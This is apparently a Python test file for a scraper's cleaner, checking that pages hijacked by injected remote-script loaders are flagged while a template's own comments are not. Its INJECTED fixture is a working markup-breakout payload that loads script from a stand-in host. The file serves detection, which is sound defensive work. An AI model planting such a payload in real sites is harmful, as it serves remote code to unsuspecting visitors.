"""A remote script that a text field's value adds by breaking out of the markup it is printed in
(a mass SQL injection: '"></title><script src=…></script><!--', v40b rc40b-002/-003/-019) flags the
page; a template's own commented-out markup after its own scripts stays the page's."""
from __future__ import annotations

from scraper.clean import clean_page
from tests.clean.conftest import kinds
from tests.clean.test_structural import HEADLINE, URL, page

INJECTED = '"></title><script src="http://www0.loader-example.cn/csrss/w.js"></script><!--'


def test_a_loader_breaking_out_of_the_keywords_meta_flags_the_page():
    head = f'<meta name="keywords" content="青山区,环境整治{INJECTED}">\n<meta name="description" content="青山区">\n<!-- 公共样式 -->'
    a = clean_page(page(head=head), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any("loader-example.cn" in f.evidence for f in a.findings)
    assert "会议指出" in a.text and a.title == HEADLINE


def test_a_loader_breaking_out_of_the_title_flags_the_page():
    head = '<meta name="description" content="青山区">\n<!-- 公共样式 -->'
    a = clean_page(page(title=HEADLINE + INJECTED, head=head), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert "会议指出" in a.text


def test_a_templates_own_comments_after_its_scripts_stay_the_pages():
    for head in (
        '<script src="https://cdn.example-cdn.net/a.js"></script><!-- <div class="old">旧版</div> -->',
        '<script src="https://cdn.example-cdn.net/a.js"></script><!-- </bc> -->',  # a closed label (ucoz)
        '<script src="/js/menu.js"></script><!-- "><div>旧菜单</div> -->',  # the site's own file
    ):
        a = clean_page(page(head=head), url=URL)
        assert not a.hijacked, (head, a.findings)
